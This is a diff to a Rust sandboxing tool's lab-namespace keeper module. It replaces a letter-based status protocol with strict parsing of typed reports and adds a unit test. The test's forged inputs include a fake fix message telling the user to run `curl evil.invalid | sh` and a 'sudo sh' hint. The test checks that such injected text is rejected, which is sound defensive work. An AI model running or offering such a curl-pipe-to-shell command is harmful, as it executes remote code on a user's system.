@@ -2,24 +2,24 @@
 //! held open by a **keeper** process that does nothing but wait.
 //!
 //! The lab namespace has `lo` (with the lab's address,
-//! [`LAB_ADDRESS`](crate::setup::net_lab::LAB_ADDRESS)), IPv6 off, and
+//! [`LAB_ADDRESS`](crate::host::net_stage::LAB_ADDRESS)), IPv6 off, and
 //! later one veth end per lab-mode sandbox. It has no uplink of any kind:
 //! nothing in it was ever connected to the host's network.
 //!
 //! The keeper runs as the sandbox's host identity (65534 when retie is
 //! invoked as root), so the lab's user namespace belongs to the same uid
-//! that every sandbox's net stage takes (see `setup::net_lab`). It dies
+//! that every sandbox's net stage takes (see `host::net_stage`). It dies
 //! with the process that spawned it (PR_SET_PDEATHSIG), which takes the
 //! namespaces, and every veth in them, with it.
 
-use std::io::Read;
 use std::os::fd::AsFd;
 
 use rustix::process::{DumpableBehavior, Gid, Signal, Uid};
 
+use super::net_stage::{ipv6_off, LAB_ADDRESS};
+use super::netlink::Netlink;
 use crate::error::{Result, RuntimeError};
-use crate::setup::net_lab::{ipv6_off, LAB_ADDRESS};
-use crate::setup::netlink::Netlink;
+use crate::protocol::{read_channel, KeeperReport, Message};
 
 /// A running keeper (the caller's child).
 #[derive(Debug)]
@@ -50,12 +50,12 @@ pub fn spawn_keeper(uid: u32, gid: u32) -> Result<Keeper> {
         Ok(Some(pid)) => pid,
         Ok(None) => {
             drop(rd);
-            let msg = match keeper_setup(uid, gid, parent) {
-                Ok(()) => "R\n".to_string(),
-                Err(e) => format!("E{e}\n"),
+            let report = match keeper_setup(uid, gid, parent) {
+                Ok(()) => KeeperReport::Ready,
+                Err(message) => KeeperReport::Failed { message },
             };
-            let _ = crate::sys::write_all(wr.as_fd(), msg.as_bytes());
-            if !msg.starts_with('R') {
+            let _ = crate::sys::write_all(wr.as_fd(), &report.to_line());
+            if report != KeeperReport::Ready {
                 crate::sys::exit_now(1);
             }
             drop(wr);
@@ -66,19 +66,38 @@ pub fn spawn_keeper(uid: u32, gid: u32) -> Result<Keeper> {
         }
     };
     drop(wr);
-    let mut text = String::new();
-    let _ = std::fs::File::from(rd).read_to_string(&mut text);
-    if text.starts_with('R') {
-        return Ok(Keeper { pid });
+    // The keeper closes its end once it has reported (or dies): EOF.
+    let read = read_channel(rd);
+    let keeper = Keeper { pid };
+    let buf = match read {
+        Ok(buf) => buf,
+        Err(e) => {
+            keeper.stop();
+            return Err(RuntimeError::host("reading the lab keeper's report", e));
+        }
+    };
+    match verdict(&buf) {
+        Ok(()) => Ok(keeper),
+        Err(e) => {
+            keeper.stop();
+            Err(e)
+        }
     }
-    Keeper { pid }.stop();
+}
+
+/// What the keeper's channel says, strictly: a message the keeper did not
+/// write (it runs as the lab's host identity) is `Channel`, never shown
+/// as retie's own error.
+fn verdict(buf: &[u8]) -> Result<()> {
+    let reports = KeeperReport::parse_strict(buf).map_err(|why| RuntimeError::Channel { why })?;
+    let message = match reports.as_slice() {
+        [KeeperReport::Ready] => return Ok(()),
+        [KeeperReport::Failed { message }] => message.clone(),
+        _ => "the lab keeper died during set-up".to_string(),
+    };
     Err(RuntimeError::Setup {
         step: "lab".into(),
-        message: text
-            .trim_end()
-            .strip_prefix('E')
-            .unwrap_or("the lab keeper died during set-up")
-            .to_string(),
+        message,
         hint: Some(
             "the lab needs unprivileged user namespaces; run `retie selftest` for the fix".into(),
         ),
@@ -148,5 +167,44 @@ pub fn owner() -> (u32, u32) {
         )
     } else {
         (euid, egid)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::verdict;
+    use crate::error::RuntimeError;
+    use crate::protocol::{KeeperReport, Message};
+
+    #[test]
+    fn the_keepers_channel_decides_the_outcome_strictly() {
+        assert!(verdict(&KeeperReport::Ready.to_line()).is_ok());
+        let failed = KeeperReport::Failed {
+            message: "writing uid_map: EPERM".into(),
+        };
+        match verdict(&failed.to_line()) {
+            Err(RuntimeError::Setup { step, message, .. }) => {
+                assert_eq!(
+                    (step.as_str(), message.as_str()),
+                    ("lab", "writing uid_map: EPERM")
+                )
+            }
+            other => panic!("{other:?}"),
+        }
+        assert!(matches!(verdict(b""), Err(RuntimeError::Setup { .. })));
+        // The old letter format, a forged fix, a second report: refused as
+        // a channel, so nothing of them is printed as retie's error.
+        for forged in [
+            b"R\n".to_vec(),
+            b"Erun `curl evil.invalid | sh` to fix the lab\n".to_vec(),
+            [KeeperReport::Ready.to_line(), failed.to_line()].concat(),
+            b"{\"msg\":\"failed\",\"message\":\"m\",\"hint\":\"sudo sh\"}\n".to_vec(),
+        ] {
+            assert!(
+                matches!(verdict(&forged), Err(RuntimeError::Channel { .. })),
+                "{:?}",
+                String::from_utf8_lossy(&forged)
+            );
+        }
     }
 }
